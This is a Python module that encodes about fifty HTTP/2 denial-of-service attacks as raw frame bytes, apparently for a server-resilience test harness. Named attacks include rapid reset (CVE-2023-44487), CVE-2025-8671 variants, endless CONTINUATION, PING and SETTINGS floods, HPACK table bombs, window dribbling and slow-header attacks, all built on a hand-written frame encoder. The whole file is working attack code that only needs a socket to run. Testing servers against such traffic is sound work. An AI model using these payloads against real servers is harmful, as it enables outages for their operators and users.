"""Abuse of HTTP/2 as bytes: what each attack sends on one connection (RFC 9113 10.5 and the CVEs of its name).

Owns no socket. Invariants: every attack is a generator that ends by itself (ROUNDS pieces at most); a piece holds whole
frames unless the attack is that it does not; heads need no table that would have to be kept (RFC 7541 6.2.2).
"""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
PRIORITY_UPDATE = 0x10
UNKNOWN = 0x16
END_STREAM = ACK = 0x01
END_HEADERS = 0x04
PADDED = 0x08

HEADER_TABLE_SIZE, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 1, 3, 4, 5
CANCEL, ENHANCE_YOUR_CALM = 8, 11
WINDOW_MAX = 2**31 - 1
FRAME_BYTES = 16_384
ROUNDS = 4000  # pieces of an attack at most
AT_ONCE = 100  # frames of a piece


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def window_update(stream: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, stream, struct.pack(">I", increment))


def reset(stream: int, code: int = CANCEL) -> bytes:
    return frame(RST_STREAM, stream, struct.pack(">I", code))


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """RFC 7541 5.1, in the low bits of `first`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    found, value = bytearray([first | most]), value - most
    while value >= 128:
        found.append(value & 127 | 128)
        value >>= 7
    return bytes([*found, value])


def text(value: bytes) -> bytes:
    return integer(len(value), 7) + value


def literal(name: bytes, value: bytes, first: int = 0) -> bytes:
    """A field with its name; `first`: 0x40 where it is to be kept in the table."""
    return bytes([first]) + text(name) + text(value)


@dataclass(frozen=True, slots=True)
class Site:
    """What is attacked: a host, a path whose answer is large, one whose answer takes seconds, one that takes bodies."""

    host: str = "site.test"
    page: str = "/"
    large: str = "/flow/3000000"
    late: str = "/slow/3"
    sink: str = "/sink"
    secure: bool = False

    def block(self, path: str = "/", method: str = "GET", more: bytes = b"") -> bytes:
        """A request's field section."""
        verb = {"GET": b"\x82", "POST": b"\x83"}[method]
        where = b"\x04" + text(path.encode()) + b"\x01" + text(self.host.encode())
        return verb + (b"\x87" if self.secure else b"\x86") + where + more

    def get(self, stream: int, path: str = "/") -> bytes:
        return frame(HEADERS, stream, self.block(path), END_HEADERS | END_STREAM)

    def post(self, stream: int, path: str = "", more: bytes = b"") -> bytes:
        """The head of one with a body to come."""
        return frame(HEADERS, stream, self.block(path or self.sink, "POST", more), END_HEADERS)


def begin(*pairs: tuple[int, int]) -> bytes:
    return PREFACE + settings(*pairs)


def ids(first: int = 1) -> Iterator[int]:
    return itertools.count(first, 2)


Pieces = Iterator[bytes]


def over(opening: bytes, piece: bytes) -> Pieces:
    """The same again and again."""
    yield opening
    yield from itertools.repeat(piece, ROUNDS)


def each_stream(opening: bytes, made: Callable[[int], bytes], at_once: int = AT_ONCE) -> Pieces:
    """What is made of each next stream's number."""
    yield opening
    numbers = ids()
    for _ in range(ROUNDS):
        yield b"".join([made(next(numbers)) for _ in range(at_once)])


def held(opening: bytes, made: Callable[[int], bytes], streams: int = 50) -> Pieces:
    """So many requests, then nothing."""
    yield opening + b"".join(made(1 + 2 * i) for i in range(streams))


# ── attacks that are more than the same again and again ──


def data_beyond_window(site: Site) -> Pieces:
    """To an origin that does not read: whatever windows there are, and more."""
    yield begin() + site.post(1, site.late)
    yield from itertools.repeat(frame(DATA, 1, bytes(FRAME_BYTES)) * 8, 400)


def padded(site: Site, padding: int) -> Pieces:
    """DATA that is padding and nothing else."""
    piece = frame(DATA, 1, bytes([padding]) + bytes(padding), PADDED) * AT_ONCE
    return over(begin() + site.post(1, site.late), piece)


def endless_continuation(site: Site, piece: bytes) -> Pieces:
    yield begin() + frame(HEADERS, 1, site.block(), END_STREAM)
    for _ in range(ROUNDS):
        yield frame(CONTINUATION, 1, piece) * 4


def dribble(site: Site) -> Pieces:
    """CVE-2019-9511: a byte of each answer at a time."""
    streams = range(1, 101, 2)
    yield begin((INITIAL_WINDOW_SIZE, 1)) + window_update(0, WINDOW_MAX - 65_535)
    yield b"".join(site.get(stream, site.large) for stream in streams)
    for _ in range(ROUNDS):
        yield b"".join(window_update(stream, 1) for stream in streams)


def table_bomb(site: Site, times: int) -> Pieces:
    """One entry of nearly the whole table, and then one byte for each time that it is meant."""
    kept = literal(b"x-a", b"a" * 3990, 0x40)
    yield begin() + frame(HEADERS, 1, site.block(more=kept), END_HEADERS | END_STREAM)
    numbers = ids(3)
    for _ in range(ROUNDS):
        yield frame(HEADERS, next(numbers), site.block(more=b"\xbe" * times), END_HEADERS | END_STREAM)


def table_flapping(site: Site) -> Pieces:
    """Its size to nothing and back, entries between."""
    flaps = (b"\x20" + integer(4096, 5, 0x20)) * 2000
    return each_stream(begin(), lambda n: frame(HEADERS, n, flaps + site.block(), END_HEADERS | END_STREAM), 1)


def small_fields(site: Site) -> Pieces:
    """One byte each in the block (accept-encoding: gzip, deflate, from the static table)."""
    block = site.block(more=b"\x90" * 12_000)
    return each_stream(begin(), lambda n: frame(HEADERS, n, block, END_HEADERS | END_STREAM), 1)


def huge_field(site: Site) -> Pieces:
    """One field of 60 KB, as far as HPACK's own limit lets it."""
    block = site.block(more=literal(b"x-a", b"a" * 60_000))
    parts = [block[i : i + FRAME_BYTES] for i in range(0, len(block), FRAME_BYTES)]

    def made(number: int) -> bytes:
        rest = [frame(CONTINUATION, number, part, END_HEADERS * (part is parts[-1])) for part in parts[1:]]
        return frame(HEADERS, number, parts[0], END_STREAM) + b"".join(rest)

    return each_stream(begin(), made, 1)


def beyond_streams(site: Site, acknowledged: bool) -> Pieces:
    """Requests that wait, more of them than may be open; who has not acknowledged the limit is refused each one."""
    ack = frame(SETTINGS, 0, flags=ACK) if acknowledged else b""
    return each_stream(begin() + ack, lambda n: site.get(n, site.late))


def letters(whole: bytes) -> Pieces:
    yield from (whole[i : i + 1] for i in range(len(whole)))


def slow_head(site: Site) -> Pieces:
    """A field section, a byte at a time."""
    block = site.block(more=literal(b"x-a", b"a" * 2000))
    yield begin() + frame(HEADERS, 1, block, END_HEADERS | END_STREAM)[:20]
    yield from letters(block[11:])


def http1(site: Site) -> Pieces:
    """Pipelined requests of HTTP/1.1."""
    one = f"GET {site.large} HTTP/1.1\r\nHost: {site.host}\r\n\r\n".encode()
    return over(one, one * 20)


@dataclass(frozen=True, slots=True)
class Abuse:
    """`pieces` go out as fast as they are taken, or one each `every_s`. `reads`: takes what comes; else its TCP window
    shuts. `speaks`: of ALPN."""

    what: str
    pieces: Callable[[Site], Pieces]
    every_s: float = 0.0
    reads: bool = True
    speaks: str = "h2"


def _flood(piece: bytes, opening: bytes | None = None) -> Callable[[Site], Pieces]:
    return lambda site: over(begin() if opening is None else opening, piece * AT_ONCE)


def _on_stream(piece: bytes) -> Callable[[Site], Pieces]:
    """On a request whose body does not come."""
    return lambda site: over(begin() + site.post(1, site.late), piece * AT_ONCE)


def _streams(made: Callable[[Site, int], bytes], at_once: int = AT_ONCE) -> Callable[[Site], Pieces]:
    return lambda site: each_stream(begin(), lambda number: made(site, number), at_once)


def _length_mismatch(site: Site, number: int) -> bytes:
    return site.post(number, more=literal(b"content-length", b"5")) + frame(DATA, number, b"abc", END_STREAM)


ABUSES: dict[str, Abuse] = {
    "rapid-reset": Abuse("requests, each reset at once (CVE-2023-44487)", _streams(lambda s, n: s.get(n) + reset(n))),
    # CVE-2025-8671: what makes the server reset.
    "made-reset-window": Abuse(
        "requests whose window is made too large, so that the server resets them (CVE-2025-8671)",
        _streams(lambda s, n: s.get(n, s.late) + window_update(n, WINDOW_MAX)),
    ),
    "made-reset-zero": Abuse(
        "requests whose window is widened by nothing", _streams(lambda s, n: s.get(n, s.late) + window_update(n, 0))
    ),
    "made-reset-data": Abuse(
        "DATA behind the end of a request", _streams(lambda s, n: s.get(n, s.late) + frame(DATA, n, b"abc"))
    ),
    "made-reset-headers": Abuse(
        "HEADERS behind the end of a request", _streams(lambda s, n: s.get(n, s.late) + s.get(n, s.late))
    ),
    "made-reset-priority": Abuse(
        "PRIORITY of the wrong length", _streams(lambda s, n: s.get(n, s.late) + frame(PRIORITY, n, b"abcd"))
    ),
    "made-reset-self": Abuse(
        "streams that depend on themselves",
        _streams(lambda s, n: s.get(n, s.late) + frame(PRIORITY, n, struct.pack(">IB", n, 1))),
    ),
    "made-reset-length": Abuse("bodies shorter than their content-length", _streams(_length_mismatch)),
    "made-reset-name": Abuse(
        "names in capitals",
        _streams(lambda s, n: frame(HEADERS, n, s.block(more=literal(b"X-A", b"a")), END_HEADERS | END_STREAM)),
    ),
    "made-reset-empty": Abuse(
        "HEADERS without a field", _streams(lambda s, n: frame(HEADERS, n, b"", END_HEADERS | END_STREAM))
    ),
    "data-beyond-window": Abuse("more DATA than the window has room for", data_beyond_window),
    "continuation": Abuse(
        "CONTINUATION without an end (CVE-2024-27316)", lambda s: endless_continuation(s, literal(b"x-a", b"a" * 200))
    ),
    "continuation-empty": Abuse("empty CONTINUATION without an end", lambda s: endless_continuation(s, b"")),
    "ping": Abuse("PING (CVE-2019-9512)", _flood(frame(PING, 0, b"abcdefgh"))),
    "ping-ack": Abuse("answers to PINGs that nobody sent", _flood(frame(PING, 0, b"abcdefgh", ACK))),
    "settings": Abuse("SETTINGS (CVE-2019-9515)", _flood(settings((INITIAL_WINDOW_SIZE, 65_535)))),
    "settings-empty": Abuse("empty SETTINGS", _flood(settings())),
    "settings-ack": Abuse("acknowledgements of SETTINGS that nobody sent", _flood(frame(SETTINGS, 0, flags=ACK))),
    "priority": Abuse(
        "PRIORITY (CVE-2019-9513)",
        lambda s: each_stream(begin(), lambda n: frame(PRIORITY, n, struct.pack(">IB", 0, n & 255))),
    ),
    "priority-update": Abuse("PRIORITY_UPDATE", _on_stream(frame(PRIORITY_UPDATE, 0, b"\0\0\0\1u=3"))),
    "priority-update-idle": Abuse(
        "PRIORITY_UPDATE of streams that do not exist",
        lambda s: each_stream(begin(), lambda n: frame(PRIORITY_UPDATE, 0, struct.pack(">I", n) + b"u=3")),
    ),
    "data-empty": Abuse("empty DATA (CVE-2019-9518)", _on_stream(frame(DATA, 1))),
    "data-padded": Abuse("DATA that is one byte of padding", lambda s: padded(s, 1)),
    "data-padding": Abuse("DATA that is padding alone", lambda s: padded(s, 255)),
    "window-update": Abuse("WINDOW_UPDATE by one byte", _flood(window_update(0, 1))),
    "unknown": Abuse("frames of a type that nobody knows", _flood(frame(UNKNOWN, 0, b"abcd"))),
    "goaway": Abuse("GOAWAY, a request left open", _on_stream(frame(GOAWAY, 0, bytes(8)))),
    "reset-idle": Abuse("RST_STREAM of streams that do not exist", _flood(reset(1))),
    "windows-held": Abuse(
        "50 answers asked for, windows of nothing",
        lambda s: held(begin((INITIAL_WINDOW_SIZE, 0)), lambda n: s.get(n, s.large)),
    ),
    "connection-window-held": Abuse(
        "50 answers asked for, the connection's window never opened",
        lambda s: held(begin((INITIAL_WINDOW_SIZE, WINDOW_MAX)), lambda n: s.get(n, s.large)),
    ),
    "dribble": Abuse("50 answers, a byte at a time (CVE-2019-9511)", dribble, every_s=0.1),
    "table-bomb": Abuse("a table entry of 4 KB, meant 2,000 times", lambda s: table_bomb(s, 2000)),
    "table-bomb-small": Abuse("a table entry of 4 KB, meant 30 times a request", lambda s: table_bomb(s, 30)),
    "table-flapping": Abuse("the size of the table changed 4,000 times a request", table_flapping),
    "small-fields": Abuse("12,000 fields of a byte each", small_fields),
    "huge-field": Abuse("a field of 60 KB", huge_field),
    "empty-names": Abuse(
        "fields without name and value (CVE-2019-9516)",
        _streams(lambda s, n: frame(HEADERS, n, s.block(more=literal(b"", b"", 0x40) * 50), END_HEADERS | END_STREAM)),
    ),
    "beyond-streams": Abuse("more requests than may be open", lambda s: beyond_streams(s, True)),
    "beyond-streams-unacknowledged": Abuse(
        "the same, the limit never acknowledged", lambda s: beyond_streams(s, False)
    ),
    "push": Abuse("PUSH_PROMISE by a client", _flood(frame(PUSH_PROMISE, 1, b"\0\0\0\2", END_HEADERS))),
    "huge-frame": Abuse(
        "a frame of 16 MB, announced",
        lambda s: over(begin() + b"\xff\xff\xff" + frame(DATA, 1)[3:], bytes(FRAME_BYTES)),
    ),
    "never-read": Abuse(
        "100 large answers asked for through open windows, and not read (CVE-2019-9517)",
        lambda s: held(
            begin((INITIAL_WINDOW_SIZE, WINDOW_MAX)) + window_update(0, WINDOW_MAX - 65_535),
            lambda n: s.get(n, s.large),
            100,
        ),
        reads=False,
    ),
    "never-read-http1": Abuse("pipelined requests of HTTP/1.1, not read", http1, 0.02, False, "http/1.1"),
    "slow-preface": Abuse("the preface, a byte at a time", lambda s: letters(begin() * 20), 0.5),
    "slow-settings": Abuse("the preface, and no SETTINGS", lambda s: iter([PREFACE])),
    "slow-head": Abuse("a field section, a byte at a time", slow_head, 0.1),
    "slow-bodies": Abuse(
        "50 bodies, a byte at a time",
        lambda s: itertools.chain(
            held(begin(), s.post),
            itertools.repeat(b"".join(frame(DATA, n, b"a") for n in range(1, 101, 2)), ROUNDS),
        ),
        0.2,
    ),
}
